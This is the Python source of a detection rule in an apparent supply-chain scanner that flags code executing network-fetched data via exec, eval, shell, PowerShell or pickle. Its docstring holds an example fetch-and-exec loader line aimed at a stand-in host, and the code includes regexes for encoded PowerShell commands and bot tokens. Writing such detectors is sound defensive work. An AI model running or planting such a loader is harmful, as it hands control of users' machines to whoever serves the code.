"""What it sees
    Text or bytes that came over the network (`requests`, `urllib`, `httpx`, `aiohttp`, sockets, websockets, the
    output of `curl`) and are executed: by `exec`, `eval`, `compile`, `marshal.loads`, `types.FunctionType`, or as a
    whole shell command. Import aliases, helper functions, renamed built-ins and decoded layers are followed.

Why it matters
    Whoever controls the address decides what runs, per victim and at any later time; the package itself stays clean
    in every scan. It is the loader of most Python campaigns, graphalgo included.

Example
    exec(urllib.request.urlopen("https://files.example.test/startup.py").read())

What to do
    Do not install, import or run it. If it ran, treat the machine and every secret on it as exposed.

False alarms
    Bootstrap scripts of old build tools execute a setup helper that they fetch. The danger is the same.

References
    ATT&CK T1059.006 (Python), T1105 (Ingress Tool Transfer), T1195.001.
"""

import re
from collections.abc import Iterator
from itertools import pairwise

from lazaretto.detect.pycode import Place, command_of, defanged, once, place, runs_code, short, starts_process
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.py_facts import Call
from lazaretto.parse.py_values import UNKNOWN
from lazaretto.parse.py_vocabulary import POLLINGS, SHELLS
from lazaretto.parse.py_words import terms
from lazaretto.parse.python import PythonModule

_EXECUTED = N_("executes code that it received over the network ({how})")
_EXECUTED_FROM = N_("executes code that it received from {address} ({how})")
_COMMAND = N_("runs a shell command that it received over the network")
_FED = N_("starts an interpreter and hands it code that it received over the network")
_POWERSHELL = N_("runs a PowerShell script that it received over the network")
_CHAT = N_("runs commands that it receives as chat messages")
_PICKLE = N_("loads pickled objects that it received over the network")


_CLONES = terms(b"dulwich", b"pygit2", b"clone_from(")
_CHATS = terms(
    b"discord",
    b"telegram",
    b"telebot",
    b"pyrogram",
    b"aiogram",
    b"telethon",
    b"nextcord",
    b"disnake",
    b"socketio",
    b"paho",
    b"paramiko",
    b"open_connection",
)
_PICKLES = terms(b"pickle")


def check(view: PythonModule) -> Iterator[Match]:
    """Yield every execution of network data."""
    if not (view.speaks("exec") or view.speaks("process") or view.mentions(_PICKLES)):
        return
    if not (view.speaks("net") or view.mentions(_CHATS, _CLONES) or _borrows(view)):
        return
    seen: set[object] = set()
    for call in view.facts.calls:
        direct = _received(call)
        if runs_code(call) and direct and once(seen, call.line):
            address = _source(view)
            yield Match(
                _EXECUTED_FROM if address else _EXECUTED,
                call.line,
                call.column,
                params={"how": call.name, "address": defanged(address)},
                excerpt=view.quote(call.line),
                confidence=Confidence.HIGH if direct == "net" and not _bootstraps(view, address) else Confidence.MEDIUM,
                layers=call.layers,
                phase=view.phase(call.scope),
            )
        elif starts_process(call) and "net" in call.tags() and "chat" in call.tags() and once(seen, call.line):
            yield Match(
                _CHAT,
                call.line,
                call.column,
                excerpt=view.quote(call.line),
                confidence=Confidence.HIGH if view.unasked(call.scope) or _listens(view) else Confidence.MEDIUM,
                phase=view.phase(call.scope),
                layers=call.layers,
            )
        elif starts_process(call) and _scripted(call) and once(seen, call.line):
            yield Match(
                _POWERSHELL, call.line, call.column, excerpt=view.quote(call.line), phase=view.phase(call.scope)
            )
        elif (_feeds(view, call) or _given(call)) and once(seen, call.line):
            yield Match(_FED, call.line, call.column, excerpt=view.quote(call.line), phase=view.phase(call.scope))
        elif starts_process(call) and direct == "net" and _is_shell(call) and once(seen, call.line):
            yield Match(
                _COMMAND,
                call.line,
                call.column,
                excerpt=view.quote(call.line),
                phase=view.phase(call.scope),
                layers=call.layers,
                params={"command": short(command_of(call))},
            )
        elif call.name in {"pickle.loads", "cPickle.loads", "dill.loads"} and direct and once(seen, call.line):
            yield Match(
                _PICKLE,
                call.line,
                call.column,
                severity=Severity.LOW,
                confidence=Confidence.MEDIUM,
                excerpt=view.quote(call.line),
                phase=view.phase(call.scope),
                layers=call.layers,
            )


def _received(call: Call) -> str:
    tags = (
        call.arg(0, "source", "object", "args", "cmd", "command").tags
        if call.args or call.kwargs
        else call.receiver.tags
    )
    if "net" in tags:
        return "net"
    return "net~" if "net~" in tags else ""


_SCRIPT = re.compile(
    r"\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,200}\s-(?:e|ec|enc|encodedcommand|c|command)\s", re.IGNORECASE
)
_FOREIGN_SCRIPT = re.compile(_SCRIPT.pattern + r"{1,4}['\"]?\0", re.IGNORECASE)
"""What follows the option is not known: the command is made of it, not around it."""
_READS_STDIN = re.compile(
    r"(?:\bpython[\w.]*|%PYTHON%)(?:\s+-\w+)*\s+-\s*$|^\S*(?:python[\w.]*|%PYTHON%|bash|sh|zsh|node|powershell)\s*$"
)


def _scripted(call: Call) -> bool:
    """Tell whether PowerShell is given a script that came over the network; not a file's name in a fixed command."""
    tags = call.tags()
    if "net" in tags:
        return _SCRIPT.search(f"{command_of(call)} ") is not None
    return "net~" in tags and _FOREIGN_SCRIPT.search(command_of(call)) is not None


def _feeds(view: PythonModule, call: Call) -> bool:
    """Tell whether network data is written to the input of an interpreter that this scope started."""
    if call.name.endswith(".Popen") and "net" in call.kwargs.get("stdin", UNKNOWN).tags:
        return _READS_STDIN.search(command_of(call)) is not None
    if call.attr not in {"communicate", "write"} or not call.name.startswith(("subprocess.Popen()", "psutil.Popen()")):
        if call.name != "subprocess.run" or "net" not in call.kwargs.get("input", UNKNOWN).tags:
            return False
        return _READS_STDIN.search(command_of(call)) is not None
    if "net" not in call.tags():
        return False
    return any(
        other.name.endswith(".Popen") and other.scope == call.scope and _READS_STDIN.search(command_of(other))
        for other in view.facts.calls
    )


def _given(call: Call) -> bool:
    """Tell whether a Python is started with the program as an argument, and that came over the network."""
    if not starts_process(call):
        return False
    items = call.arg(0, "args", "cmd").items or ()
    return any(
        flag.const == "-c" and "net" in program.tags and not program.shape.strip("\0")
        for flag, program in pairwise(items)
    )


_SIBLING = re.compile(rb"^[ \t]{0,40}from[ \t]+\.", re.MULTILINE)
_ADDRESSES = terms(b"https://", b"http://")
_EXECUTING = terms(b"exec", b"eval")
_EXECUTES = re.compile(rb"\b(?:exec|eval)[ \t]*\(")


def _borrows(view: PythonModule) -> bool:
    """Tell whether a file names an address and executes something, with a helper of another file of the package."""
    data = view.blob.data
    return (
        view.mentions(_ADDRESSES)
        and view.mentions(_EXECUTING)
        and _EXECUTES.search(data) is not None
        and _SIBLING.search(data) is not None
    )


_BOT_TOKEN = re.compile(r"^(?:\d{8,12}:AA[\w-]{30,36}|[MNO][\w-]{22,27}\.[\w-]{5,8}\.[\w-]{25,45})$")


def _listens(view: PythonModule) -> bool:
    """Tell whether a bot begins to listen unasked, or with a token that is written in the file."""
    if view.is_test or view.is_side:
        return False
    if any(_BOT_TOKEN.match(text) for text, _ in view.facts.strings):
        return True
    return any(
        (call.attr in POLLINGS or any(value.name.rpartition(".")[2] in POLLINGS for value in call.kwargs.values()))
        and view.unasked(call.scope)
        for call in view.facts.calls
    )


_BOOTSTRAP = re.compile(r"/(?:ez_setup|get-pip|distribute_setup|get-poetry)\.py$")


def _bootstraps(view: PythonModule, address: str) -> bool:
    """Tell whether a program beside the package fetches one of the usual set-up helpers from an ordinary host."""
    if view.is_setup or "__init__" in view.path:
        return False
    return _BOOTSTRAP.search(address) is not None and place(address) is Place.PUBLIC


def _is_shell(call: Call) -> bool:
    if call.name in SHELLS:
        return True
    shell = call.kwargs.get("shell")
    return shell is not None and shell.const is True and call.arg(0, "args").items is None


def _source(view: PythonModule) -> str:
    """Return the only remote address that the file names, or nothing."""
    found = {
        v.shape
        for c in view.facts.calls
        for v in c.args[:1]
        if v.shape.startswith(("http://", "https://")) and place(v.shape) > Place.LOCAL
    }
    return found.pop() if len(found) == 1 else ""


RULE = Rule(
    id="py/remote-code-executed",
    title=N_("Executes code received over the network"),
    view=PythonModule,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    phase=Phase.RUN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1059.006", "T1105"),
)
